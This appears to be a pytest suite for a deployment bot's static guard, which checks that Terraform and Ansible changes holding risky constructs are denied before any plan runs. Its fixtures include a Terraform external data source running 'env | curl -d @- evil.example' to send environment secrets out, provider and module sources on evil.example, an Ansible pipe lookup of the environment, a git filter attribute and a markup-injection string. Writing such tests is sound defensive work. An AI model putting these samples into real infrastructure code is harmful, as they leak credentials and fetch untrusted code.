"""The static guard in a whole day of a change: what is denied never runs, and everybody is told what to do."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from bot.core.model import ChangeRef
from bot.core.runs import RunKind

CONFIG = "version: 1\nprojects:\n  - {name: net, path: dev/net, tool: terraform, environment: dev}\n"
ROOT = """\
terraform {{
  backend "local" {{
    path = "{state}"
  }}
}}
resource "terraform_data" "a" {{
  input = "{value}"
}}
"""


def root(value: str = "1", state: str = "/var/lib/state/net.tfstate", more: str = "") -> str:
    return ROOT.format(value=value, state=state) + more


EXTERNAL = 'data "external" "x" {\n  program = ["sh", "-c", "env | curl -d @- evil.example"]\n}\n'
PROVISIONER = 'resource "terraform_data" "b" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}\n'
PROVIDER = 'terraform {\n  required_providers {\n    x = {\n      source = "evil.example/evil/x"\n    }\n  }\n}\n'


@pytest.fixture
def terraformed(make_world: Callable[..., Any]) -> Any:
    return make_world(config=CONFIG, files={"dev/net/main.tf": root()})


def audited(world: Any, pull: Any) -> list[Any]:
    subject = str(ChangeRef(world.repo_ref, pull.number))
    return [row for row in world.store.audit_rows(subject=subject) if row.entry.action == "guard.judged"]


DENIED = [
    ("external", root(more=EXTERNAL), "dev/net/main.tf:9"),
    ("local-exec", root(more=PROVISIONER), "dev/net/main.tf:10"),
    ("backend", root(state="/tmp/mine.tfstate"), "dev/net/main.tf:2"),
    ("provider", root(more=PROVIDER), "dev/net/main.tf:10"),
    ("module", root(more='module "m" {\n  source = "git::https://evil.example/m"\n}\n'), "dev/net/main.tf:9"),
    ("unreadable", root(more="resource {{{\n"), "dev/net/main.tf"),
]


@pytest.mark.parametrize(("rule", "text", "where"), DENIED, ids=[rule for rule, _, _ in DENIED])
def test_what_terraform_would_run_or_fetch_is_denied_before_anything_runs(
    terraformed: Any, rule: str, text: str, where: str
) -> None:
    pull = terraformed.pull({"dev/net/main.tf": text})

    assert terraformed.run_states(pull, RunKind.PLAN) == []
    assert terraformed.gate(pull) == "failure"
    face = terraformed.face(pull)
    assert f"**{rule}** in **net**" in face
    assert where in face and "take it out, or allow it" in face
    assert "| **net** | dev | not run | ⛔ |" in face
    assert pull.checks()["headgate/plan"].outcome.value == "failure"
    (row,) = audited(terraformed, pull)
    assert [(each["rule"], each["level"]) for each in row.entry.detail["findings"]] == [(rule, "deny")]


def test_taking_it_out_opens_the_way(terraformed: Any) -> None:
    pull = terraformed.pull({"dev/net/main.tf": root(more=EXTERNAL)})
    assert terraformed.run_states(pull, RunKind.PLAN) == []

    terraformed.push(pull, {"dev/net/main.tf": root("2")})
    assert [name for name, _ in terraformed.run_states(pull, RunKind.PLAN)] == ["net"]
    assert "**external**" not in terraformed.face(pull)


def test_what_the_operator_allows_is_run(terraformed: Any) -> None:
    text = terraformed.config.read_text() + 'guard: {levels: {external: note}, providers: ["evil.example/evil/*"]}\n'
    terraformed.config.write_text(text)
    terraformed.reload()

    pull = terraformed.pull({"dev/net/main.tf": root(more=EXTERNAL + PROVIDER)})
    assert [name for name, _ in terraformed.run_states(pull, RunKind.PLAN)] == ["net"]
    assert "ℹ **external** in **net**" in terraformed.face(pull)
    assert audited(terraformed, pull) == []


def test_what_the_target_branch_has_already_denies_nothing_and_is_told(make_world: Callable[..., Any]) -> None:
    world = make_world(config=CONFIG, files={"dev/net/main.tf": root(more=EXTERNAL)})

    pull = world.pull({"dev/net/main.tf": root("2", more=EXTERNAL)})
    assert [name for name, _ in world.run_states(pull, RunKind.PLAN)] == ["net"]
    assert "The target branch has these too: **external**" in world.face(pull)

    other = world.pull({"dev/net/main.tf": root("3", more=EXTERNAL.replace("env", "set"))})
    assert world.run_states(other, RunKind.PLAN) == []


PLAY = "- hosts: web\n  gather_facts: false\n  tasks:\n    - ansible.builtin.debug: {msg: hello}\n"
LOOKUP = PLAY + "    - ansible.builtin.debug: {msg: \"{{ lookup('pipe', 'env') }}\"}\n"
ANSIBLE = (
    "version: 1\nprojects:\n"
    "  - {name: site, path: dev/site, tool: ansible, environment: dev, playbook: site.yml, inventory: [hosts.ini]}\n"
)


def test_a_lookup_that_runs_a_program_is_denied_and_a_clean_playbook_is_run(make_world: Callable[..., Any]) -> None:
    hosts = "[web]\nw1 ansible_host=192.0.2.1\n"
    world = make_world(config=ANSIBLE, files={"dev/site/site.yml": PLAY, "dev/site/hosts.ini": hosts})
    pull = world.pull({"dev/site/site.yml": LOOKUP})
    assert world.run_states(pull, RunKind.PLAN) == []
    assert world.gate(pull) == "failure"
    assert "**lookup** in **site**" in world.face(pull) and "dev/site/site.yml:5" in world.face(pull)

    local = world.pull({"dev/site/hosts.ini": "[web]\nw1 ansible_connection=local\n"})
    assert world.run_states(local, RunKind.PLAN) == []
    assert "**on-worker** in **site**" in world.face(local)

    world.push(pull, {"dev/site/site.yml": PLAY.replace("hello", "again")})
    assert [name for name, _ in world.run_states(pull, RunKind.PLAN)] == ["site"]
    assert "**lookup**" not in world.face(pull)


def test_a_filter_in_gitattributes_is_denied_and_other_projects_go_on(world: Any) -> None:
    pull = world.pull(
        {"dev/web/wanted": "a=2\n", "dev/web/.gitattributes": "* filter=evil\n", "prod/db/wanted": "size=2\n"}
    )

    assert world.run_states(pull, RunKind.PLAN) == [("prod-db", "succeeded")]
    assert world.gate(pull) == "failure"
    assert "**gitattributes-filter** in **dev-web**" in world.face(pull)
    assert "dev/web/.gitattributes:1" in world.face(pull)


def test_a_clean_change_stays_green_and_hears_nothing_of_the_guard(world: Any) -> None:
    pull = world.pull({"dev/web/wanted": "a=2\n"})

    assert world.run_states(pull, RunKind.PLAN) == [("dev-web", "succeeded")]
    assert world.gate(pull) == "success"
    assert "guard" not in world.face(pull)
    assert world.memory(pull).selection.guard == ()


def test_hostile_words_in_a_finding_stay_words(terraformed: Any) -> None:
    source = "git::https://e.example/`</details>@bo <!-- headgate:story:page:1 --> |x"
    pull = terraformed.pull({"dev/net/main.tf": root(more=f'module "m" {{\n  source = "{source}"\n}}\n')})

    face = terraformed.face(pull)
    assert face.count("<!-- headgate:story:page:1 -->") >= 1
    assert face.index("<!-- headgate:story:page:1 -->") == 0
    assert "``git::https://e.example/`</details>@bo" in face


def test_a_merge_past_the_guard_deploys_nothing_and_nobody_can_accept_what_never_ran(terraformed: Any) -> None:
    pull = terraformed.pull({"dev/net/main.tf": root(more=PROVISIONER)})
    pull.merge("ann", bypass=True)
    terraformed.settle()

    assert terraformed.run_states(pull, RunKind.PLAN) == []
    assert terraformed.run_states(pull, RunKind.DEPLOY) == []
    terraformed.say(pull, "bo", "/deploy net --accept 12345678")
    assert terraformed.run_states(pull, RunKind.DEPLOY) == []


def test_a_look_waits_for_somebody_else_even_where_no_approval_is_asked(world: Any) -> None:
    world.config.write_text(world.config.read_text() + "guard: {levels: {headgate-config: look}}\n")
    world.reload()
    config = world.text.replace(
        '["python3", "../../plan.py", "dev_web"]', '["python3", "../../plan.py", "dev_web", "x"]'
    )
    pull = world.pull({".headgate.yaml": config, "dev/web/wanted": "a=2\n"})
    assert world.gate(pull) == "pending"
    assert "👀 **headgate-config**" in world.face(pull)

    pull.approve("bo")
    world.settle()
    assert world.gate(pull) == "success"


# -------------------------------------------------------------------------------------------- programs


def test_a_plan_by_a_program_that_the_change_brings_along_wants_somebody_elses_look(world: Any) -> None:
    lying = {"plan.py": "print('{\"changes\": []}')\n", "apply.py": "raise SystemExit('mine')\n"}
    pull = world.pull(lying)
    assert world.run_states(pull, RunKind.PLAN) != []
    assert world.gate(pull) == "pending"
    assert "a program that plans or deploys is another than on the target branch" in world.face(pull)

    pull.approve("bo")
    world.settle()
    assert world.gate(pull) == "success"


def test_who_pushed_before_the_head_contributes_too_and_a_forged_delivery_changes_nothing(world: Any) -> None:
    world.repo.commit("topic", files={"prod/web/wanted": "a=2\n"}, author="dee", pusher="bo")
    world.repo.commit("topic", files={"prod/web/wanted": "a=3\n"}, author="dee")
    pull = world.repo.open_pull("By two", head="topic", author="dee")
    world.store.note_pusher(world.repo_ref, pull.head_sha, "cy")
    world.settle()
    pull.approve("bo")
    world.settle()
    assert world.gate(pull) == "pending"
    pull.approve("cy")
    world.settle()
    assert world.gate(pull) == "success", "the host says that dee pushed it, whatever a delivery said"
